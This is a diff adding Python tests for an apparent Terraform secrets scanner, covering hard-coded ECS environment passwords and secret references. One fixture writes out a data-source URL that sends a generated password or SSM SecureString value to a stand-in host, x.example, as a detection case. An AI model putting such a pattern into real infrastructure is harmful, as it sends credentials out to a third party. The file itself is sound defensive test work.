@@ -77,3 +77,70 @@ def test_a_detected_key_is_one_finding_under_the_secrets_rule_with_both_scanners
     assert got == [("secrets/aws-secret-access-key", 6), ("secrets/aws-secret-access-key", 12)]
     assert all(key not in f.snippet and encoded not in f.snippet for f in report.findings)
     assert "secrets/aws-secret-access-key" in report.rules
+
+
+def _task(definitions: str) -> str:
+    return (
+        'resource "aws_ecs_task_definition" "api" {\n  family = "api"\n'
+        f"  container_definitions = {definitions}\n}}\n"
+    )
+
+
+def test_credential_in_ecs_container_environment_is_one_finding_under_the_secrets_rule() -> None:
+    password = "Orders" + "-2024-pw!"
+    heredoc = _task(
+        '<<EOF\n[\n  {\n    "name": "api",\n    "environment": [\n'
+        '      {"name": "STAGE", "value": "production"},\n'
+        f'      {{"name": "DATABASE_PASSWORD", "value": "{password}"}}\n'
+        "    ]\n  }\n]\nEOF"
+    )
+    encoded = _task(
+        'jsonencode([{ name = "api", environment = [\n'
+        f'    {{ name = "DATABASE_PASSWORD", value = "{password}" }},\n  ] }}])'
+    )
+    for text, line in ((heredoc, 9), (encoded, 4)):
+        hits = findings(scan_family("tf", text), "secrets/generic-password-unquoted")
+        assert [(f.location.start_line, f.message) for f in hits] == [
+            (
+                line,
+                "aws_ecs_task_definition.api: environment DATABASE_PASSWORD holds a credential"
+                " (Hard-coded password (env/properties))",
+            )
+        ]
+        assert password not in hits[0].snippet
+        assert not findings(scan_family("tf", text), "tf/hardcoded-secret")
+        # the other ECS rules' messages do not quote the definitions (and so the password)
+        assert all(password not in f.message for f in findings(scan_family("tf", text)))
+
+
+def test_ecs_environment_without_credentials_or_with_secrets_references_is_clean() -> None:
+    plain = _task(
+        'jsonencode([{ name = "api", environment = [{ name = "STAGE", value = "prod" }] }])'
+    )
+    assert not _secret_findings(plain)
+    referenced = _task(
+        'jsonencode([{ name = "api", secrets = [{ name = "DATABASE_PASSWORD",'
+        " valueFrom = aws_secretsmanager_secret.db.arn }] }])"
+    )
+    assert not _secret_findings(referenced)
+    assert not _secret_findings(_task('"not json ["'))
+
+
+def _leak(url: str, ssm_type: str = "SecureString") -> list[str]:
+    text = (
+        f'resource "aws_ssm_parameter" "db" {{\n  name  = "db"\n  type  = "{ssm_type}"\n'
+        "  value = var.db\n}\n"
+        'resource "random_password" "api" {\n  length = 24\n}\n'
+        f'data "http" "probe" {{\n  url = "{url}"\n}}\n'
+    )
+    return [f.message for f in findings(scan_family("tf", text), "tf/secret-sent-over-http")]
+
+
+def test_a_secret_in_an_http_data_source_request_is_reported() -> None:
+    assert _leak("https://x.example/?k=${random_password.api.result}") == [
+        "data.http.probe: url sends random_password.api.result to the server"
+    ]
+    assert _leak("https://x.example/?k=${aws_ssm_parameter.db.value}")
+    # a plain String parameter is configuration (an endpoint), not a secret
+    assert not _leak("${aws_ssm_parameter.db.value}/health", ssm_type="String")
+    assert not _leak("https://x.example/?k=${aws_ssm_parameter.db.name}")
